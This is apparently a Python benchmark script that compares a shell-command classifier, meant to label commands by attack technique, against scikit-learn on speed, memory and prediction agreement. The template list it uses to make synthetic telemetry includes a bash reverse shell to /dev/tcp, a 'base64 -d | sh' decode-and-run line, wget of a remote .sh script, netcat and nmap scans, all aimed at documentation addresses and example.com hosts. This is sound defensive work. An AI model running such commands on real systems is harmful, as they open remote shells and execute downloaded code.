"""Scoring of ``tfidf-lr`` against scikit-learn's own pipeline: same model, same commands, same run, one thread.

    python benchmarks/scoring.py                # writes benchmarks/results/scoring.json
    python benchmarks/scoring.py --rows 100000  # a quick look

Three shapes of work: a stream of a million rows of which 14 % are distinct (Zipf), as telemetry is; distinct commands;
one command at a time. Each side runs in a process of its own, so that its peak memory can be read; both are given the
commands as they need them (a list of str for scikit-learn, a column for us) and must give a label and a probability
for every row. Times are the best of the repetitions in wall seconds; the pieces alternate, so that a busy machine
disturbs both. Exit 1 when a target is missed, a label differs or a probability is off.
"""

import argparse
import json
import os
import platform
import random
import re
import resource
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

THREADS = dict.fromkeys(("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "POLARS_MAX_THREADS"), "1")
SEED = 20_240_314
DISTINCT_SHARE = 0.14  # of the study's 417,000 occurrences of 70,992 rows, and of our own audit logs
ZIPF_EXPONENT = 1.1
LABELS = 37  # as many as the study has
TRAINING_COMMANDS = 6_000
SINGLE_COMMANDS = 2_000
TARGETS = {"stream": 30.0, "distinct": 4.0, "one": 20.0}
PASSES = 3  # in one process: the first pays for memory that the process does not have yet
MOST_MEMORY = 0.6
MOST_DIFFERENCE = 1e-5
ROOT = Path(__file__).parents[1]

_PROGRAMS = r"""
ls --color=auto {path}
cat {path}
grep -rn {word} {path}
grep --color=auto -E {word}|{word} {path}
ssh {user}@{ip}
ssh -p {port} {user}@{ip} {word}
scp {path} {user}@{ip}:{path}
nmap -sV -p {port} {ip}
nmap -Pn -T4 {ip}/24
curl -s http://{host}:{port}/{word} -o {path}
wget http://{host}/{word}.sh
ps -ef
id {user}
systemctl status {word}.service
find {path} -name {word}.conf -type f
tar czf {path}.tgz {path}
chmod {port} {path}
python3 {path}.py --{word} {word} --port={port}
sh -c {word} > {path}
nc {ip} {port}
bash -i >& /dev/tcp/{ip}/{port} 0>&1
cp {path} {path}
kill -9 {port}
ip addr show dev {word}
ping -c 3 {ip}
docker exec -it {word} sh
useradd -m {user}
crontab -u {user} -l
iptables -A INPUT -s {ip} --dport {port} -j DROP
mysql -u{user} -h {host} -P {port}
echo ${word} $HOME/{word}
dd if={path} of={path} bs={port}
base64 -d {path} | sh
sed -i s/{word}/{word}/g {path}
awk -F: {word} {path}
{path}/{word} --{word}={word} -{letter}
su - {user}
""".strip().splitlines()
_SYLLABLES = ("ka", "lo", "mi", "ne", "ru", "sa", "to", "vi", "ex", "dor", "log", "net", "sys", "var", "cfg", "app")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--out", type=Path, default=ROOT / "benchmarks/results/scoring.json")
    parser.add_argument("--work", nargs=3, metavar=("SIDE", "CASE", "FOLDER"), help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.work:
        side, case, folder = options.work
        print(json.dumps(_in_child(side, case, Path(folder))))
        return 0
    with tempfile.TemporaryDirectory() as folder:
        result = _compare(Path(folder), options.rows, options.repeat)
    options.out.parent.mkdir(parents=True, exist_ok=True)
    options.out.write_text(json.dumps(result, indent=1) + "\n")
    print(json.dumps(result, indent=1))
    return 0 if result["met"] else 1


def make_commands(count: int, seed: int) -> list[str]:
    """``count`` different commands, each from one of ``LABELS`` templates with names, paths and addresses filled in."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        found[_command(chance, chance.choice(_PROGRAMS))] = None
    return list(found)


def _command(chance: random.Random, template: str) -> str:
    def word() -> str:
        return "".join(chance.choice(_SYLLABLES) for _ in range(min(3, 1 + int(chance.expovariate(1.0)))))

    def fill(name: re.Match[str]) -> str:
        match name[1]:
            case "path":
                return "/" + "/".join(word() for _ in range(chance.randint(1, 3)))
            case "ip":
                return f"{chance.choice(('192.0.2', '198.51.100', '203.0.113'))}.{chance.randrange(256)}"
            case "port":
                return str(chance.choice((22, 80, 443, 8080, chance.randrange(65_536))))
            case "host":
                return f"{word()}.example.com"
            case "letter":
                return chance.choice("abcdefgh")
            case _:
                return word()

    return re.sub(r"\{(\w+)\}", fill, template)


def _prepare(folder: Path, rows: int) -> None:
    import numpy as np
    import polars as pl

    from ttpline.domain.labelled import LabelledCommand
    from ttpline.models.tfidf_lr import TfidfLr, TfidfLrParams

    chance = random.Random(SEED)
    labelled = []
    for number in range(TRAINING_COMMANDS):
        # One command in ten carries another label, so that the model is not sure of everything.
        kind = number % LABELS
        label = kind if chance.random() < 0.9 else chance.randrange(LABELS)
        command = _command(chance, _PROGRAMS[kind])
        labelled.append(LabelledCommand(command, f"T{1000 + label}", str(number), count=1.0 + number % 7))
    model = TfidfLr(TfidfLrParams())
    model.fit(labelled, [], SEED)
    model.save(folder / "model")
    distinct = make_commands(round(rows * DISTINCT_SHARE), SEED + 1)
    draw = np.random.default_rng(SEED)
    share = 1.0 / np.arange(1, len(distinct) + 1) ** ZIPF_EXPONENT
    drawn = draw.choice(len(distinct), size=rows - len(distinct), p=share / share.sum())
    at = np.concatenate([np.arange(len(distinct)), drawn])
    draw.shuffle(at)
    commands = pl.Series("command", distinct)
    commands.gather(at).to_frame().write_parquet(folder / "stream.parquet")
    commands.to_frame().write_parquet(folder / "distinct.parquet")
    commands.head(SINGLE_COMMANDS).to_frame().write_parquet(folder / "one.parquet")


def _compare(folder: Path, rows: int, repeat: int) -> dict[str, Any]:
    # Nothing heavy is imported here: a child's peak memory is at least what its parent had.
    _child("prepare", str(rows), folder)
    cases: dict[str, Any] = {}
    for case, target in TARGETS.items():
        runs: dict[str, list[dict[str, Any]]] = {"ours": [], "sklearn": []}
        for _ in range(repeat):
            for side in runs:
                runs[side].append(_child(side, case, folder))
        ours, theirs = (min(runs[side], key=lambda run: run["seconds"]) for side in ("ours", "sklearn"))
        agreement = _child("agreement", case, folder)
        count = ours["rows"]
        cases[case] = {
            "rows": count,
            "ours_s": ours["seconds"],
            "sklearn_s": theirs["seconds"],
            "ours_us_per_row": ours["seconds"] / count * 1e6,
            "sklearn_us_per_row": theirs["seconds"] / count * 1e6,
            "ratio": theirs["seconds"] / ours["seconds"],
            "target": target,
            "cpu_ratio": theirs["cpu_seconds"] / ours["cpu_seconds"],
            "ours_peak_mib": ours["peak_mib"],
            "sklearn_peak_mib": theirs["peak_mib"],
            "memory_ratio": ours["peak_mib"] / theirs["peak_mib"],
            **agreement,
            "all_ours_s": [run["seconds"] for run in runs["ours"]],
            "all_sklearn_s": [run["seconds"] for run in runs["sklearn"]],
        }
    met = all(
        case["ratio"] >= case["target"]
        and case["equal_labels"] == case["rows"]
        and case["largest_difference"] <= MOST_DIFFERENCE
        for case in cases.values()
    )
    met = met and all(cases[case]["memory_ratio"] <= MOST_MEMORY for case in ("stream", "distinct"))
    return {"met": met, "cases": cases, "seed": SEED, "repeat": repeat, **_machine(folder)}


def _machine(folder: Path) -> dict[str, Any]:
    from importlib.metadata import version

    model = json.loads((folder / "model/model.json").read_text())
    names = ("ttpline", "polars", "numpy", "scipy", "scikit-learn")
    return {
        "distinct_share": DISTINCT_SHARE,
        "zipf_exponent": ZIPF_EXPONENT,
        "labels": len(model["labels"]),
        "features": model["manifest"]["training"]["features"],
        "model_digest": (folder / "model/DIGEST").read_text().strip(),
        "threads": 1,
        "machine": {"processor": _processor(), "cores": os.cpu_count(), "system": platform.platform()},
        "versions": {"python": platform.python_version(), **{name: version(name) for name in names}},
    }


def _processor() -> str:
    info = Path("/proc/cpuinfo")
    lines = info.read_text().splitlines() if info.exists() else []
    return next((line.partition(":")[2].strip() for line in lines if line.startswith("model name")), platform.machine())


def _child(side: str, case: str, folder: Path) -> dict[str, Any]:
    command = [sys.executable, __file__, "--work", side, case, str(folder)]
    done = subprocess.run(command, env={**os.environ, **THREADS}, capture_output=True, text=True, check=False)
    if done.returncode:
        raise RuntimeError(f"{side} {case} failed: {done.stderr}")
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def _in_child(what: str, case: str, folder: Path) -> dict[str, Any]:
    if what == "prepare":
        _prepare(folder, int(case))
        return {}
    return _agreement(folder, case) if what == "agreement" else _work(what, case, folder)


def _agreement(folder: Path, case: str) -> dict[str, Any]:
    """Rows with equal labels, and the largest difference of a row's best probability."""
    import numpy as np

    ours, theirs = (np.load(folder / f"{case}.{side}.npz") for side in ("ours", "sklearn"))
    return {
        "equal_labels": int((ours["label"] == theirs["label"]).sum()),
        "largest_difference": float(np.abs(ours["probability"] - theirs["probability"]).max()),
    }


def _work(side: str, case: str, folder: Path) -> dict[str, Any]:
    import numpy as np
    import polars as pl

    column = pl.read_parquet(folder / f"{case}.parquet")["command"]
    rows = column.len()
    task = (_ours if side == "ours" else _sklearn)(case, folder, column)
    del column
    seconds = cpu_seconds = float("inf")
    for _ in range(PASSES):
        started, cpu_started = time.perf_counter(), time.process_time()
        label, probability = task()
        seconds = min(seconds, time.perf_counter() - started)
        cpu_seconds = min(cpu_seconds, time.process_time() - cpu_started)
    peak_mib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    np.savez(folder / f"{case}.{side}.npz", label=label, probability=probability)
    return {"rows": rows, "seconds": seconds, "cpu_seconds": cpu_seconds, "peak_mib": peak_mib}


Task = Callable[[], tuple[Any, Any]]


def _ours(case: str, folder: Path, column: Any) -> Task:
    import numpy as np

    from ttpline.models._distinct import probabilities_of
    from ttpline.models._folder import load_folder

    model = load_folder(folder / "model")
    model.probabilities(["warm", "up"] * 20)
    model.probabilities(["warm up"])
    if case == "one":
        commands = column.to_list()
        return lambda: _best(np.vstack([model.probabilities([command]) for command in commands]))

    def score() -> tuple[Any, Any]:
        best = probabilities_of(model, column).best()
        return best["label"].to_physical().to_numpy(), best["probability"].to_numpy()

    return score


def _sklearn(case: str, folder: Path, column: Any) -> Task:
    import numpy as np

    pipeline = sklearn_pipeline(folder / "model")
    commands = column.to_list()
    pipeline.predict_proba(["warm up"])
    if case == "one":
        return lambda: _best(np.vstack([pipeline.predict_proba([command]) for command in commands]))
    return lambda: _best(pipeline.predict_proba(commands))


def _best(probabilities: Any) -> tuple[Any, Any]:
    """For each row the number of the likeliest label (the classes stand in the same order) and its probability."""
    return probabilities.argmax(axis=1), probabilities.max(axis=1)


def sklearn_pipeline(folder: Path) -> Any:
    """The saved model as scikit-learn's own pipeline, with the same pattern, idf and coefficients."""
    import numpy as np
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline

    from ttpline.commands.tokens import TOKEN_PATTERN
    from ttpline.models._tfidf_files import read_parts

    document = json.loads((folder / "model.json").read_text())
    params = document["params"]
    parts = read_parts(folder, len(document["labels"]))
    vectoriser = TfidfVectorizer(
        token_pattern=TOKEN_PATTERN,
        ngram_range=(params["word_ngram_min"], params["word_ngram_max"]),
        vocabulary=parts.vocabularies["words"],
        sublinear_tf=params["sublinear_tf"],
    )
    vectoriser.idf_ = parts.idf["words"]
    regression = LogisticRegression(C=params["C"])
    regression.classes_ = np.array(document["labels"])
    regression.coef_ = np.ascontiguousarray(parts.coefficients["words"].T.astype(np.float64))
    regression.intercept_ = parts.intercept.astype(np.float64)
    return Pipeline([("tfidf", vectoriser), ("lr", regression)])


if __name__ == "__main__":
    sys.exit(main())
